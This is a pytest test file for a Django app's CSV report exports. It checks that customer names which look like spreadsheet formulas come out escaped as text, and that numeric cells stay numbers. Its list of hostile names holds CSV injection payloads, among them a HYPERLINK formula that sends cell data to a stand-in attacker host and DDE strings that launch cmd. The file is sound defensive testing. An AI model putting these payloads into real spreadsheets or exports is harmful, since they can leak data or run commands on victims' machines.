"""CSV exports: a customer name that a spreadsheet would run as a formula arrives as text."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.utils import timezone

from tests.factories import TODAY, CustomerFactory, InteractionFactory, InvoiceFactory

pytestmark = pytest.mark.django_db
AS_OF = f"?as_of={TODAY.isoformat()}"

HOSTILE_NAMES = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Click me")',
    "+31 20 555 0101",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def export(client, kind: str) -> list[list[str]]:
    response = client.get(f"/reports/export/{kind}.csv{AS_OF}")
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode())))


@pytest.fixture
def hostile_customers():
    customers = []
    for name in HOSTILE_NAMES:
        customer = CustomerFactory(name=name, currency="EUR")
        InvoiceFactory(customer=customer, due_date=TODAY - dt.timedelta(days=10), amount=Decimal("100.00"))
        InteractionFactory(  # minutes with no revenue: negative points for minutes in the worth-it score
            customer=customer,
            occurred_at=timezone.make_aware(dt.datetime.combine(TODAY - dt.timedelta(days=5), dt.time(10))),
            minutes_spent=90,
        )
        customers.append(customer)
    return customers


@pytest.mark.parametrize("kind", ["worth-it", "effort"])
def test_customer_names_that_look_like_formulas_are_exported_as_text(
    client, finance_lead, hostile_customers, kind
):
    client.force_login(finance_lead)
    rows = export(client, kind)
    column = rows[0].index("customer")
    exported = {row[column] for row in rows[1:]}
    assert exported == {f"'{name}" for name in HOSTILE_NAMES}


def test_numbers_in_exports_stay_numbers_even_when_negative(client, finance_lead, hostile_customers):
    client.force_login(finance_lead)
    worth_it = export(client, "worth-it")
    minutes_points = [row[worth_it[0].index("minutes_points")] for row in worth_it[1:]]
    assert minutes_points and all(points.startswith("-") and Decimal(points) < 0 for points in minutes_points)
    effort = export(client, "effort")
    for column in ("minutes", "cost"):
        assert all(Decimal(row[effort[0].index(column)]) > 0 for row in effort[1:])


def test_only_text_cells_that_start_a_formula_are_escaped():
    from reports.exports import csv_writer, spreadsheet_safe

    buffer = io.StringIO()
    csv_writer(buffer).writerow(["=1+1", "a=b", "-5", Decimal("-12.50"), -3, 2.5, None, dt.date(2026, 1, 2)])
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == [
        "'=1+1", "a=b", "'-5", "-12.50", "-3", "2.5", "", "2026-01-02",
    ]  # fmt: skip
    assert spreadsheet_safe("") == "" and spreadsheet_safe("Acme") == "Acme"
